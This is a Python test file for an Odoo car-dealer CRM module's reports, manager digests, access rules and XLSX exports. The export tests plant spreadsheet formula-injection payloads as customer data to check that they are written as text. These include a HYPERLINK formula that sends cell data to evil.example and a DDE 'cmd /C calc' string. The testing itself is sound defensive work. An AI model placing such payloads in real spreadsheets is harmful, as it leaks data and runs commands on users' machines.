# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
from datetime import date, datetime

import openpyxl
from dateutil.relativedelta import relativedelta

from odoo import Command
from odoo.exceptions import AccessError
from odoo.tests import new_test_user, tagged

from .common import DealerCrmCase

# a period no demo record falls in
PERIOD = (date(2031, 3, 1), date(2031, 3, 31))
BEFORE = (date(2031, 2, 1), date(2031, 2, 28))


class ReportingCase(DealerCrmCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.vehicle = cls._create_vehicle(owner_id=cls.customer.id, purchase_date=date(2030, 1, 1))
        cls.brand = cls.vehicle.brand_id or cls.vehicle.model_id.brand_id

    def _visit(self, day, amount, service_type=None, state="done", vehicle=None):
        vals = {"service_type": service_type} if service_type else {}
        return self._create_visit(
            vehicle or self.vehicle, day, self.user_service, amount=amount, state=state, **vals
        )

    def _complaint(self, created, closed=None, cause=None, breached=False, satisfaction=None):
        ticket = self._create_ticket(
            self.customer,
            created,
            name="Noise after service",
            dealer_root_cause_id=cause and cause.id,
        )
        vals = {
            "dealer_first_response_date": created + relativedelta(hours=4),
            "dealer_sla_breached": breached,
        }
        if closed:
            stage = self.env["helpdesk.ticket.stage"].search([("closed", "=", True)], limit=1)
            vals.update(
                stage_id=stage.id,
                closed_date=closed,
                dealer_contact_date=created + relativedelta(hours=4),
                dealer_contact_user_id=self.user_relations.id,
                dealer_resolution="<p>Fixed and tested with the customer.</p>",
            )
        ticket.write(vals)
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE helpdesk_ticket SET closed_date = %s, dealer_satisfaction = %s WHERE id = %s",
            [closed, satisfaction, ticket.id],
        )
        self.env.invalidate_all()
        return ticket


@tagged("post_install", "-at_install")
class TestReporting(ReportingCase):
    def test_service_analysis_counts_visits_revenue_and_comebacks(self):
        first = self._visit(date(2031, 3, 2), 500)
        comeback = self._visit(date(2031, 3, 20), 200)
        self._visit(date(2031, 3, 25), 999, state="cancelled")
        self.env.flush_all()
        Report = self.env["dealer.service.report"].with_user(self.user_service)
        rows = Report.search([("vehicle_id", "=", self.vehicle.id), ("state", "=", "done")])
        self.assertEqual(set(rows.ids), {first.id, comeback.id}, "ids are the visits'")
        [[visits, revenue, comebacks]] = Report._read_group(
            [("vehicle_id", "=", self.vehicle.id), ("state", "=", "done")],
            [],
            ["visit_count:sum", "amount:sum", "comeback:sum"],
        )
        self.assertEqual((visits, comebacks), (2, 1))
        self.assertEqual(revenue, sum((first | comeback).mapped("dealer_amount_net")))
        self.assertEqual(Report.browse(comeback.id).comeback, 1, "18 days after the first")
        self.assertEqual(Report.browse(first.id).brand_id, self.brand)
        groups = dict(
            Report._read_group(
                [("vehicle_id", "=", self.vehicle.id), ("state", "=", "done")],
                ["advisor_id"],
                ["amount:sum"],
            )
        )
        self.assertEqual(groups, {self.user_service: revenue})

    def test_complaint_analysis_resolution_time_and_service_level(self):
        cause = self.env["dealer.complaint.root.cause"].create({"name": "Workmanship"})
        created = datetime(2031, 3, 2, 9, 0)
        on_time = self._complaint(created, created + relativedelta(days=2), cause)
        late = self._complaint(created, created + relativedelta(days=6), cause, breached=True)
        Report = self.env["dealer.complaint.report"].with_user(self.user_relations)
        rows = Report.browse([on_time.id, late.id])
        self.assertEqual(rows.mapped("resolution_days"), [2.0, 6.0])
        self.assertEqual(rows.mapped("response_hours"), [4.0, 4.0])
        self.assertEqual(rows.mapped("sla_met"), [100.0, 0.0])
        [[count, days, met]] = Report._read_group(
            [("root_cause_id", "=", cause.id)],
            [],
            ["ticket_count:sum", "resolution_days:avg", "sla_met:avg"],
        )
        self.assertEqual((count, days, met), (2, 4.0, 50.0))

    def test_customer_base_loyalty_interactions_and_satisfaction(self):
        self.customer.write({"dealer_customer_type": "fleet"})
        self.env.flush_all()
        # one row per customer and company that evaluated them; none evaluated this one yet
        row = self.env["dealer.customer.report"].search([("partner_id", "=", self.customer.id)])
        self.assertEqual(row.customer_type, "fleet")
        self.env["dealer.interaction"].create(
            [
                {"partner_id": self.customer.id, "channel": "sms", "subject": "a"},
                {"partner_id": self.customer.id, "channel": "sms", "subject": "b"},
                {"partner_id": self.customer.id, "channel": "email", "subject": "c"},
            ]
        )
        self.env.flush_all()
        by_channel = dict(
            self.env["dealer.interaction.report"]
            .with_user(self.user_sales)
            ._read_group(
                [("partner_id", "=", self.customer.id)], ["channel"], ["interaction_count:sum"]
            )
        )
        self.assertEqual(by_channel, {"sms": 2, "email": 1})
        created = datetime(2031, 3, 2, 9, 0)
        self._complaint(created, created + relativedelta(days=1), satisfaction="2")
        self._complaint(created, created + relativedelta(days=1), satisfaction="4")
        [[score, low]] = self.env["dealer.satisfaction.report"]._read_group(
            [("partner_id", "=", self.customer.id), ("department", "=", "customer_relations")],
            [],
            ["score:avg", "low_count:sum"],
        )
        self.assertEqual((score, low), (3.0, 1))

    def test_loyalty_analysis_splits_earned_redeemed_and_expired(self):
        program = self.env.ref("dealer_crm.loyalty_program_dealer_club_demo")
        card = self.env["loyalty.card"].create(
            {"program_id": program.id, "partner_id": self.customer.id}
        )
        card._dealer_move(300, "earned", "earn")
        card._dealer_move(-100, "redeemed", "redeem")
        self.env.flush_all()
        [[earned, redeemed, net]] = self.env["dealer.loyalty.report"]._read_group(
            [("partner_id", "=", self.customer.id)], [], ["earned:sum", "redeemed:sum", "net:sum"]
        )
        self.assertEqual((earned, redeemed, net), (300.0, 100.0, 200.0))

    def test_retention_counts_buyers_back_within_twelve_months(self):
        Vehicle = self.env["dealer.vehicle"].with_context(dealer_ownership_origin="sale")
        back, gone, recent = Vehicle.create(
            [
                {
                    "vin": f"WVWZZZ1KZAW50000{i}",
                    "license_plate": f"RT {i}",
                    "model_id": self.env.ref("fleet.model_corolla_ts").id,
                    "owner_id": self.customer.id,
                    "purchase_date": bought,
                }
                for i, bought in enumerate(
                    [
                        date(2020, 1, 1),
                        date(2020, 1, 1),
                        self._today() - relativedelta(months=2),
                    ]
                )
            ]
        )
        self.env["dealer.service.record"].create(
            [
                {"vehicle_id": back.id, "date": date(2020, 11, 1), "state": "done"},
                {"vehicle_id": gone.id, "date": date(2021, 6, 1), "state": "done"},  # too late
            ]
        )
        self.env.flush_all()
        Report = self.env["dealer.retention.report"].with_user(self.user_sales)
        rows = Report.search([("vehicle_id", "in", (back | gone | recent).ids)])
        self.assertEqual(rows.vehicle_id, back | gone, "a sale under 12 months is not judged yet")
        [[rate]] = Report._read_group([("id", "in", rows.ids)], [], ["retention_rate:avg"])
        self.assertEqual(rate, 50.0)

    def test_needs_against_offering(self):
        unoffered = self.env["dealer.need.tag"].create({"name": "Horse trailer hitch"})
        offered = self.env["dealer.need.tag"].create(
            {"name": "Dash cam", "product_ids": [Command.create({"name": "Dash cam kit"})]}
        )
        self.env["dealer.customer.need"].create(
            [
                {"partner_id": self.customer.id, "tag_id": unoffered.id, "date": date(2031, 3, 3)},
                {"partner_id": self.customer.id, "tag_id": offered.id, "date": date(2031, 3, 3)},
            ]
        )
        reason = self.env["crm.lost.reason"].create({"name": "No seven-seater in stock"})
        lead = self.env["crm.lead"].create({"name": "7 seats", "partner_id": self.customer.id})
        lead.action_set_lost(lost_reason_id=reason.id)
        self.env.flush_all()
        Report = self.env["dealer.unmet.need.report"].with_user(self.user_sales)
        names = set(Report.search([("partner_id", "=", self.customer.id)]).mapped("name"))
        self.assertEqual(names, {"Horse trailer hitch", "No seven-seater in stock"})

    def test_departments_see_their_own_analysis_only(self):
        with self.assertRaises(AccessError):
            self.env["dealer.complaint.report"].with_user(self.user_service).search([])
        with self.assertRaises(AccessError):
            self.env["dealer.service.report"].with_user(self.user_relations).search([])
        with self.assertRaises(AccessError):
            self.env["dealer.satisfaction.report"].with_user(self.user_sales).search([])
        self.env["dealer.satisfaction.report"].with_user(self.user_manager).search([])


@tagged("post_install", "-at_install")
class TestTrendReport(ReportingCase):
    def test_trend_report_compares_with_the_period_before(self):
        second = self._create_vehicle(vin="WVWZZZ1KZAW600001", owner_id=self.customer.id)
        third = self._create_vehicle(vin="WVWZZZ1KZAW600002", owner_id=self.customer.id)
        for day in (date(2031, 2, 5), date(2031, 2, 20)):
            self._visit(day, 100, vehicle=second)
        for day in (date(2031, 3, 5), date(2031, 3, 12)):
            self._visit(day, 100)
        self._visit(date(2031, 3, 28), 100, vehicle=third)
        report = (
            self.env["dealer.trend.report"]
            .with_user(self.user_manager)
            .create({"date_from": PERIOD[0], "date_to": PERIOD[1]})
        )
        lines = {line.code: line for line in report.line_ids}
        self.assertEqual(lines["visits"].value, 3)
        self.assertEqual(lines["visits"].previous, 2, "February, the month before")
        self.assertEqual(lines["visits"].change, 1)
        self.assertEqual(lines["visits"].change_pct, 50.0)
        # a count reads in whole numbers, an average with its decimals
        self.assertTrue(lines["visits"].is_count)
        self.assertEqual(
            [lines["visits"][f] for f in ("value_display", "previous_display", "change_display")],
            ["3", "2", "1"],
        )
        self.assertEqual(lines["visits"].change_pct_display, "50.0")
        self.assertFalse(lines["comebacks"].is_count)
        self.assertFalse(lines["satisfaction"].is_count)
        self.assertEqual(lines["comebacks"].value_display, "33.33")
        self.assertEqual(
            lines["service_revenue"].value,
            sum(
                self.env["dealer.service.record"]
                .search([("date", ">=", PERIOD[0]), ("date", "<=", PERIOD[1])])
                .mapped("dealer_amount_net")
            ),
        )
        # the visit on 12 March is a comeback (7 days after the 5th): 1 of 3
        self.assertAlmostEqual(lines["comebacks"].value, 33.33, places=2)
        self.assertEqual(lines["comebacks"].target, 5.0)
        self.assertFalse(lines["comebacks"].met, "lower is better and 33 % > 5 %")

    def test_top_causes_and_segment_movements(self):
        cause = self.env["dealer.complaint.root.cause"].create({"name": "Parts delay"})
        for _i in range(2):
            self._complaint(datetime(2031, 3, 4, 10, 0), cause=cause)
        Score = self.env["dealer.customer.score"]
        Score.create(
            {
                "partner_id": self.customer.id,
                "month": date(2031, 3, 1),
                "segment": "at_risk",
                "previous_segment": "loyal",
                "segment_moved": True,
            }
        )
        report = self.env["dealer.trend.report"].create(
            {"date_from": PERIOD[0], "date_to": PERIOD[1]}
        )
        self.assertEqual(report.cause_ids[:1].name, "Parts delay")
        self.assertEqual(report.cause_ids[:1].count, 2)
        self.assertEqual(report.movement_ids.mapped("name"), ["Loyal → At Risk"])

    def test_digest_goes_to_every_manager_and_no_one_else(self):
        other_manager = new_test_user(
            self.env, login="t_manager2", groups="dealer_crm.group_manager", email="m2@example.com"
        )
        self.user_manager.email = "m1@example.com"
        report = self.env["dealer.trend.report"].create(
            {"date_from": PERIOD[0], "date_to": PERIOD[1]}
        )
        report.with_user(self.user_manager).action_send()
        mail = self.env["mail.mail"].search(
            [("model", "=", report._name), ("res_id", "=", report.id)]
        )
        self.assertEqual(len(mail), 1)
        managers = self.env.ref("dealer_crm.group_manager").users.filtered(
            lambda u: u.active and u.email and u.id != 1 and self.company in u.company_ids
        )
        self.assertIn(other_manager, managers)
        self.assertEqual(mail.recipient_ids, managers.partner_id)
        for user in (self.user_sales, self.user_service, self.user_relations, self.user_plain):
            self.assertNotIn(user.partner_id, mail.recipient_ids)
        self.assertNotIn(self.customer, mail.recipient_ids)
        [attachment] = mail.attachment_ids
        self.assertTrue(attachment.name.endswith(".xlsx"))
        book = openpyxl.load_workbook(io.BytesIO(attachment.raw))
        self.assertEqual(
            book.sheetnames,
            ["Figures", "Top Complaint Causes", "Top Unmet Needs", "Segment Movements"],
        )

    def test_the_monthly_job_makes_and_sends_last_months_report_once(self):
        self.user_manager.email = "m1@example.com"
        Trend = self.env["dealer.trend.report"]
        last = self._today().replace(day=1) - relativedelta(days=1)
        Trend.search([("date_to", "=", last)]).unlink()
        Trend._cron_monthly()
        Trend._cron_monthly()
        reports = Trend.search([("date_to", "=", last), ("company_id", "=", self.company.id)])
        self.assertEqual(len(reports), 1)
        self.assertTrue(reports.sent_date)
        self.assertEqual(
            self.env["mail.mail"].search_count(
                [("model", "=", Trend._name), ("res_id", "=", reports.id)]
            ),
            1,
            "sent once",
        )

    def test_trend_report_xlsx_reads_back(self):
        self._visit(date(2031, 3, 5), 100)
        report = self.env["dealer.trend.report"].create(
            {"date_from": PERIOD[0], "date_to": PERIOD[1]}
        )
        content, kind = (
            self.env["ir.actions.report"]
            .with_user(self.user_manager)
            ._render("dealer_crm.trend_report_xlsx", report.ids)
        )
        self.assertEqual(kind, "xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Figures"]
        rows = list(sheet.iter_rows(values_only=True))
        self.assertEqual(
            rows[0],
            (
                "Period",
                "Figure",
                "Value",
                "Period Before",
                "Change",
                "Change (%)",
                "Target",
                "Target Met",
            ),
        )
        visits = next(row for row in rows if row[1] == "Service visits completed")
        self.assertEqual(visits[2], 1)
        self.assertIsInstance(visits[2], int, "a count in whole numbers")
        # none the month before: the change in percent is no data, not "no change"
        self.assertEqual(visits[3], 0)
        self.assertIsNone(visits[5])
        line = report.line_ids.filtered(lambda line: line.code == "visits")
        self.assertFalse(line.change_pct_known)
        self.assertFalse(line.change_pct_display)
        self.assertEqual(line.change_display, "1")

    def test_dashboard_shows_the_standards_against_their_targets(self):
        board = self.env["dealer.dashboard"].with_user(self.user_manager).create({})
        self.assertIn("Satisfaction", board.standards_html)
        self.assertIn("Target", board.standards_html)
        action = self.env["dealer.dashboard"].with_user(self.user_manager).action_open()
        self.assertEqual(action["res_model"], "dealer.dashboard")
        with self.assertRaises(AccessError):
            self.env["dealer.dashboard"].with_user(self.user_sales).create({})


@tagged("post_install", "-at_install")
class TestXlsxExports(DealerCrmCase):
    def _render(self, report, records, user):
        content, _kind = self.env["ir.actions.report"].with_user(user)._render(report, records.ids)
        return openpyxl.load_workbook(io.BytesIO(content))

    def test_customer_register_writes_formulas_as_text(self):
        evil = self.env["res.partner"].create(
            {
                "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                "email": "+cmd|' /C calc'!A0",
                "phone": "-2+3",
                "city": "@SUM(1,2)",
            }
        )
        book = self._render("dealer_crm.customer_register", self.customer | evil, self.user_sales)
        sheet = book["Customers"]
        header = [cell.value for cell in sheet[1]]
        self.assertEqual(header[:5], ["Customer", "Customer Type", "Phone", "Mobile", "Email"])
        row = [cell for cell in sheet[3]]
        self.assertEqual(row[0].value, evil.name)
        for cell in (row[0], row[2], row[4], row[5]):
            self.assertEqual(cell.data_type, "s", f"{cell.value!r} must be text")
        self.assertEqual(sheet["A2"].value, "Chan Tai Man")

    def test_complaints_register_reads_back(self):
        ticket = self._create_ticket(self.customer, name="=1+1")
        sheet = self._render("dealer_crm.complaint_register", ticket, self.user_relations)[
            "Complaints"
        ]
        self.assertEqual(sheet["E1"].value, "Subject")
        self.assertEqual(sheet["E2"].value, "=1+1")
        self.assertEqual(sheet["E2"].data_type, "s")
        self.assertEqual(sheet["C2"].value, "Chan Tai Man")

    def test_service_call_list_writes_formulas_as_text(self):
        owner = self.env["res.partner"].create({"name": "=cmd()"})
        vehicle = self._create_vehicle(owner_id=owner.id)
        sheet = self._render("dealer_crm.vehicle_call_list", vehicle, self.user_service)[
            "Call list"
        ]
        self.assertEqual(sheet["A2"].value, "=cmd()")
        self.assertEqual(sheet["A2"].data_type, "s")

    def test_exports_respect_companies(self):
        other = self._create_company("Other Dealer")
        foreign = self.env["res.partner"].create({"name": "Elsewhere", "company_id": other.id})
        with self.assertRaises(AccessError):
            self._render("dealer_crm.customer_register", self.customer | foreign, self.user_sales)
